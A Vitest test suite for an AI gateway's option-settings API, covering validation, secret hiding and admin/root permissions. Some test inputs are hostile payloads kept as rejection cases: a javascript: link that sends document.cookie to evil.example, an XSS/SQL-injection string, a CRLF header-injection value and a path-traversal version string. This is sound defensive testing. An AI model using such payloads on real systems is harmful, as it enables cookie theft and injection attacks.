import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { optionRegistry, type OptionDefinition } from '../../src/options/registry.js';
import { createUserAndLogin, setupRootAndLogin, type LoggedIn } from '../helpers/accounts.js';
import { startTestServer, type TestServer } from '../helpers/test-server.js';

describe('system options (super admin)', () => {
  let server: TestServer;
  let root: LoggedIn;
  beforeAll(async () => {
    server = await startTestServer();
    root = await setupRootAndLogin(server);
  });
  afterAll(async () => server.stop());

  const valueOf = async (key: string) =>
    ((await root.client.get('/api/option/')).body.data as Array<{ key: string; value: string }>).find((o) => o.key === key)?.value;

  it('lists every option as key/value strings, secrets left out', async () => {
    const res = await root.client.get('/api/option/');
    expect(res.status).toBe(200);
    const keys = (res.body.data as Array<{ key: string; value: unknown }>).map((o) => o.key);
    expect(keys).toContain('SystemName');
    expect(keys).toContain('QuotaPerUnit');
    expect(keys).not.toContain('SMTPToken');
    expect(keys).not.toContain('GitHubClientSecret');
    expect((res.body.data as Array<{ value: unknown }>).every((o) => typeof o.value === 'string')).toBe(true);
  });

  it('stores strings, numbers and booleans as strings and applies them at once', async () => {
    expect((await root.client.put('/api/option/', { key: 'SystemName', value: 'My Gate' })).body).toEqual({
      success: true,
      message: '更新成功',
      data: null,
    });
    expect((await root.client.put('/api/option/', { key: 'QuotaForNewUser', value: 2500 })).status).toBe(200);
    expect((await root.client.put('/api/option/', { key: 'DrawingEnabled', value: true })).status).toBe(200);
    expect(await valueOf('SystemName')).toBe('My Gate');
    expect(await valueOf('QuotaForNewUser')).toBe('2500');
    expect(await valueOf('DrawingEnabled')).toBe('true');
    expect((await server.client().get('/api/status')).body.data).toMatchObject({ system_name: 'My Gate', enable_drawing: true });
    const stored = await server.ctx.storage.db.selectFrom('options').selectAll().where('key', '=', 'QuotaForNewUser').executeTakeFirst();
    expect(stored?.value).toBe('2500');
  });

  it('sets a secret without ever listing it', async () => {
    expect((await root.client.put('/api/option/', { key: 'SMTPToken', value: 'smtp-secret-value' })).status).toBe(200);
    expect((await root.client.get('/api/option/')).text).not.toContain('smtp-secret-value');
  });

  it('stores SQL-like and markup text literally', async () => {
    const notice = "' OR 1=1 --; DROP TABLE options; <script>alert(1)</script>";
    expect((await root.client.put('/api/option/', { key: 'Notice', value: notice })).status).toBe(200);
    expect((await server.client().get('/api/notice')).body.data).toBe(notice);
  });

  it.each([
    [{ key: 'NoSuchKey', value: 'x' }, '未知的配置项：NoSuchKey'],
    [{ key: 'QuotaForNewUser', value: 'lots' }, 'QuotaForNewUser 必须是数字'],
    [{ key: 'QuotaForNewUser', value: -1 }, 'QuotaForNewUser 不能小于 0'],
    [{ key: 'DrawingEnabled', value: 'yes' }, 'DrawingEnabled 必须是 true 或 false'],
    [{ key: 'GroupRatio', value: '{not json' }, 'GroupRatio 不是合法的 JSON 字符串'],
    // Links the console opens for every user: a javascript: link would run in the console's origin.
    [{ key: 'TopUpLink', value: 'javascript:alert(document.cookie)' }, 'TopUpLink 必须是 http:// 或 https:// 开头的地址'],
    [
      { key: 'general_setting.docs_link', value: 'javascript:fetch(`//evil.example/${document.cookie}`)' },
      'general_setting.docs_link 必须是 http:// 或 https:// 开头的地址',
    ],
    [
      { key: 'fetch_setting.allowed_ports', value: '[443]' },
      'fetch_setting.allowed_ports 必须是端口或端口范围字符串的 JSON 数组，如 ["443", "8000-9000"]',
    ],
    // Numbers that would leave the ledger's exact range: a quota beyond 2^53 is rounded, 1e300 "is an integer".
    [{ key: 'QuotaForNewUser', value: '1e300' }, 'QuotaForNewUser 不能大于 9007199254740991'],
    [{ key: 'QuotaForNewUser', value: '9007199254740993' }, 'QuotaForNewUser 不能大于 9007199254740991'],
    [{ key: 'QuotaPerUnit', value: '1e308' }, 'QuotaPerUnit 不能大于 1000000000'],
    [{ key: 'Price', value: '1e308' }, 'Price 不能大于 1000000'],
    // A ratio of 1e308 made every hold "Infinity" (and its message "≈ $Infinity").
    [{ key: 'ModelRatio', value: '{"gpt-4o": 1e308}' }, 'ModelRatio gpt-4o 的值不能大于 1000000'],
    [{ key: 'GroupRatio', value: '{"default": 1, "vip": 1000001}' }, 'GroupRatio vip 的值不能大于 1000000'],
    [{ key: 'GroupGroupRatio', value: '{"vip": {"default": 1e300}}' }, 'GroupGroupRatio vip: default 的值不能大于 1000000'],
    // Admin-set headers go out with the channel's key: never where the request lands, its framing or its credential.
    [
      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"host": "evil.example"}}' },
      'claude.model_headers_settings claude-sonnet-4: 请求头 host 不能在此设置',
    ],
    [
      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"x-api-key": "mine"}}' },
      'claude.model_headers_settings claude-sonnet-4: 请求头 x-api-key 不能在此设置',
    ],
    [
      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"anthropic-beta": "a\\r\\nx-injected: 1"}}' },
      'claude.model_headers_settings claude-sonnet-4: 请求头 anthropic-beta 的值必须是不含换行等控制字符的 ASCII 字符串或其数组',
    ],
    [
      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": {"bad name": "v"}}' },
      'claude.model_headers_settings claude-sonnet-4: 请求头名称 bad name 不合法',
    ],
    [
      { key: 'claude.model_headers_settings', value: '{"claude-sonnet-4": "anthropic-beta"}' },
      'claude.model_headers_settings claude-sonnet-4 的值必须是请求头对象',
    ],
    // A path segment of every Gemini call's URL.
    [
      { key: 'gemini.version_settings', value: '{"default": "v1beta/../x?y"}' },
      'gemini.version_settings 版本必须是 v1、v1beta 这样的版本名',
    ],
    // Sent with every Gemini call: a typo made every call of the model an upstream 400.
    [
      { key: 'gemini.safety_settings', value: '{"default": "OFF", "gemini-2.5-pro": "BLOCK_SOME"}' },
      'gemini.safety_settings 阈值必须是 OFF、BLOCK_NONE、BLOCK_ONLY_HIGH、BLOCK_MEDIUM_AND_ABOVE、BLOCK_LOW_AND_ABOVE 或 HARM_BLOCK_THRESHOLD_UNSPECIFIED',
    ],
    // Model-name prefixes: anything else would make every structured call of a model choose blindly.
    [{ key: 'claude.structured_output_models', value: '{"claude-sonnet-4-5": true}' }, 'claude.structured_output_models 必须是 JSON 数组'],
    [{ key: 'claude.structured_output_models', value: '"claude-sonnet-4-5"' }, 'claude.structured_output_models 必须是 JSON 数组'],
    [
      { key: 'claude.structured_output_models', value: '["claude-sonnet-4-5", 4]' },
      'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]',
    ],
    [
      { key: 'claude.structured_output_models', value: '[""]' },
      'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]',
    ],
    [
      { key: 'claude.structured_output_models', value: '["claude sonnet"]' },
      'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]',
    ],
    [
      { key: 'claude.structured_output_models', value: '[null]' },
      'claude.structured_output_models 必须是模型名前缀字符串的数组，如 ["claude-sonnet-4-5"]',
    ],
    [
      { key: 'claude.structured_output_models', value: JSON.stringify(Array.from({ length: 201 }, (_, i) => `claude-${i}`)) },
      'claude.structured_output_models 最多 200 个模型前缀',
    ],
    [
      { key: 'fetch_setting.domain_list', value: '["https://hooks.example.com"]' },
      'fetch_setting.domain_list 必须是域名字符串的 JSON 数组，如 ["example.com", "*.example.com"]',
    ],
    [
      { key: 'fetch_setting.ip_list', value: '["10.0.0.0/99"]' },
      'fetch_setting.ip_list 必须是 IP 地址或 CIDR 网段字符串的 JSON 数组，如 ["203.0.113.7", "10.0.0.0/8"]',
    ],
  ])('refuses %j', async (body, message) => {
    const res = await root.client.put('/api/option/', body);
    expect(res.status).toBe(400);
    expect(res.body).toEqual({ success: false, message, data: null });
  });

  it('reads a stored number it would refuse as the default', async () => {
    try {
      for (const value of ['1e300', '9007199254740993', '-5', '2.5', 'lots']) {
        await server.ctx.storage.db.deleteFrom('options').where('key', '=', 'QuotaForNewUser').execute();
        await server.ctx.storage.db.insertInto('options').values({ key: 'QuotaForNewUser', value }).execute();
        await server.ctx.options.load();
        expect(server.ctx.options.number('QuotaForNewUser'), value).toBe(0);
      }
    } finally {
      await server.ctx.storage.db.deleteFrom('options').where('key', '=', 'QuotaForNewUser').execute();
      await server.ctx.options.load();
    }
  });

  it('refuses wrong shapes with 400', async () => {
    for (const body of [
      { key: 'Notice' },
      { key: 'Notice', value: null },
      { key: 'Notice', value: { a: 1 } },
      { value: 'x' },
      { key: '', value: 'x' },
    ]) {
      const res = await root.client.put('/api/option/', body);
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(res.body.success).toBe(false);
    }
    expect((await root.client.put('/api/option/', undefined, { raw: '{"key":' })).status).toBe(400);
  });

  it('is for admins, each role seeing and writing only its options', async () => {
    const admin = await createUserAndLogin(server, root.client, 'opsadmin', 10);
    const user = await createUserAndLogin(server, root.client, 'opsuser', 1);
    expect((await user.client.get('/api/option/')).status).toBe(403);
    expect((await user.client.put('/api/option/', { key: 'Notice', value: 'x' })).status).toBe(403);
    expect((await server.client().get('/api/option/')).status).toBe(401);

    // The admin reads the operation, rate-limit, models and other tabs' options, never the system tab's.
    const adminKeys = ((await admin.client.get('/api/option/')).body.data as Array<{ key: string }>).map((o) => o.key);
    for (const key of [
      'QuotaPerUnit',
      'ModelRatio',
      'ModelRequestRateLimitCount',
      'gemini.safety_settings',
      'Notice',
      'SystemName',
      'Chats',
      'TopUpLink',
    ])
      expect(adminKeys).toContain(key);
    for (const key of [
      'ServerAddress',
      'SMTPServer',
      'SMTPAccount',
      'GitHubClientId',
      'oidc.well_known',
      'EpayId',
      'PayAddress',
      'TurnstileSiteKey',
      'WeChatServerAddress',
      'TelegramBotName',
      'PasswordLoginEnabled',
      'SMTPToken',
    ]) {
      expect(adminKeys, key).not.toContain(key);
    }
    const rootKeys = ((await root.client.get('/api/option/')).body.data as Array<{ key: string }>).map((o) => o.key);
    expect(rootKeys).toEqual(expect.arrayContaining([...adminKeys, 'ServerAddress', 'SMTPServer', 'GitHubClientId']));

    for (const [key, value] of [
      ['Notice', 'from the admin'],
      ['ModelRequestRateLimitCount', '7'],
      ['claude.thinking_adapter_enabled', 'false'],
    ]) {
      expect((await admin.client.put('/api/option/', { key, value })).body, key).toEqual({
        success: true,
        message: '更新成功',
        data: null,
      });
    }
    for (const [key, value] of [
      ['ServerAddress', 'https://evil.example'],
      ['SMTPToken', 'x'],
      ['GitHubClientSecret', 'x'],
      ['EpayKey', 'x'],
      ['PasswordLoginEnabled', 'false'],
      ['TurnstileSecretKey', 'x'],
    ]) {
      const res = await admin.client.put('/api/option/', { key, value });
      expect(res.status, key).toBe(403);
      expect(res.body).toEqual({ success: false, message: '无权修改此配置项，仅超级管理员可以修改', data: null });
    }
    expect(await valueOf('ServerAddress')).toBe('');
    expect(await valueOf('PasswordLoginEnabled')).toBe('true');
    expect(await valueOf('Notice')).toBe('from the admin');
  });

  it('enforces the admin / root split that docs/configuration.md lists', async () => {
    const doc = fs.readFileSync(new URL('../../../docs/configuration.md', import.meta.url), 'utf8');
    const listed = (name: string) => {
      const section = new RegExp(`<!-- ${name}:start -->([\\s\\S]*?)<!-- ${name}:end -->`).exec(doc)?.[1] ?? '';
      const tableRows = section
        .split('\n')
        .filter((line) => line.startsWith('|'))
        .slice(2)
        .map((line) => line.split('|')[2] ?? '');
      return {
        keys: tableRows.flatMap((cell) => [...cell.matchAll(/`([^`]+)`/g)].map((m) => m[1]!)).sort(),
        secrets: tableRows.flatMap((cell) => [...cell.matchAll(/`([^`]+)` \(secret\)/g)].map((m) => m[1]!)).sort(),
      };
    };
    const adminDoc = listed('admin-options');
    const rootDoc = listed('root-options');
    const admin = await createUserAndLogin(server, root.client, 'docadmin', 10);
    const adminKeys = ((await admin.client.get('/api/option/')).body.data as Array<{ key: string }>).map((o) => o.key).sort();
    expect(adminDoc.keys, 'docs/configuration.md: the keys an admin may change').toEqual(adminKeys);
    // Every key is in exactly one list, and the secrets are marked.
    const registry = Object.entries(optionRegistry as Record<string, OptionDefinition>);
    expect([...adminDoc.keys, ...rootDoc.keys].sort(), 'docs/configuration.md: every option in one list').toEqual(
      registry.map(([key]) => key).sort(),
    );
    expect([...adminDoc.secrets, ...rootDoc.secrets].sort(), 'docs/configuration.md: the secrets').toEqual(
      registry
        .filter(([, def]) => def.secret)
        .map(([key]) => key)
        .sort(),
    );
    for (const key of rootDoc.keys) expect((await admin.client.put('/api/option/', { key, value: '' })).status, key).toBe(403);
  });

  it.each([
    ['EmailVerificationEnabled', [], '请先填写 SMTP 服务器'],
    ['GitHubOAuthEnabled', [['GitHubClientId', 'id']], '请先填写 GitHub Client ID 和 Client Secret'],
    ['LinuxDOOAuthEnabled', [['LinuxDOClientSecret', 'secret']], '请先填写 Linux DO Client ID 和 Client Secret'],
    [
      'oidc.enabled',
      [
        ['oidc.client_id', 'id'],
        ['oidc.client_secret', 'secret'],
      ],
      '请先填写 OIDC Client ID、Client Secret 和 Well-Known 地址（或授权、令牌、用户信息端点）',
    ],
    ['TurnstileCheckEnabled', [['TurnstileSiteKey', 'site']], '请先填写 Turnstile Site Key 和 Secret Key'],
    ['WeChatAuthEnabled', [['WeChatServerToken', 'token']], '请先填写微信服务器地址和访问凭证'],
    ['TelegramOAuthEnabled', [['TelegramBotName', 'bot']], '请先填写 Telegram Bot Token 和 Bot 名称'],
  ])('refuses to turn %s on while its settings are missing', async (toggle, partial, message) => {
    for (const [key, value] of partial as string[][]) expect((await root.client.put('/api/option/', { key, value })).status).toBe(200);
    const res = await root.client.put('/api/option/', { key: toggle, value: 'true' });
    expect(res.status).toBe(400);
    expect(res.body).toEqual({ success: false, message, data: null });
    expect(await valueOf(toggle)).toBe('false');
    // Turning it off is always allowed.
    expect((await root.client.put('/api/option/', { key: toggle, value: 'false' })).status).toBe(200);
  });

  it.each([
    ['EmailVerificationEnabled', [['SMTPServer', 'smtp.example.com']]],
    [
      'GitHubOAuthEnabled',
      [
        ['GitHubClientId', 'id'],
        ['GitHubClientSecret', 'secret'],
      ],
    ],
    [
      'oidc.enabled',
      [
        ['oidc.client_id', 'id'],
        ['oidc.client_secret', 'secret'],
        ['oidc.well_known', 'https://idp.example.com/.well-known/openid-configuration'],
      ],
    ],
    [
      'TurnstileCheckEnabled',
      [
        ['TurnstileSiteKey', 'site'],
        ['TurnstileSecretKey', 'secret'],
      ],
    ],
    [
      'WeChatAuthEnabled',
      [
        ['WeChatServerAddress', 'https://wechat.example.com'],
        ['WeChatServerToken', 'token'],
      ],
    ],
    [
      'TelegramOAuthEnabled',
      [
        ['TelegramBotName', 'bot'],
        ['TelegramBotToken', '123:abc'],
      ],
    ],
  ])('turns %s on once its settings are there', async (toggle, settings) => {
    for (const [key, value] of settings as string[][]) expect((await root.client.put('/api/option/', { key, value })).status).toBe(200);
    expect((await root.client.put('/api/option/', { key: toggle, value: 'true' })).status).toBe(200);
    expect(await valueOf(toggle)).toBe('true');
    expect((await root.client.put('/api/option/', { key: toggle, value: 'false' })).status).toBe(200);
  });

  it('keeps self-use mode and demo mode exclusive', async () => {
    expect((await root.client.put('/api/option/', { key: 'SelfUseModeEnabled', value: 'true' })).status).toBe(200);
    const res = await root.client.put('/api/option/', { key: 'DemoSiteEnabled', value: 'true' });
    expect(res.status).toBe(400);
    expect(res.body.message).toBe('自用模式和演示站点模式不能同时开启');
    expect((await root.client.put('/api/option/', { key: 'SelfUseModeEnabled', value: 'false' })).status).toBe(200);
    expect((await root.client.put('/api/option/', { key: 'DemoSiteEnabled', value: 'true' })).status).toBe(200);
    expect((await root.client.put('/api/option/', { key: 'SelfUseModeEnabled', value: 'true' })).body.message).toBe(
      '自用模式和演示站点模式不能同时开启',
    );
    expect((await root.client.put('/api/option/', { key: 'DemoSiteEnabled', value: 'false' })).status).toBe(200);
  });

  it('derives group names from GroupRatio', async () => {
    await root.client.put('/api/option/', { key: 'GroupRatio', value: JSON.stringify({ default: 1, team: 0.8 }) });
    expect((await root.client.get('/api/group/')).body.data).toEqual(['default', 'team']);
  });
});
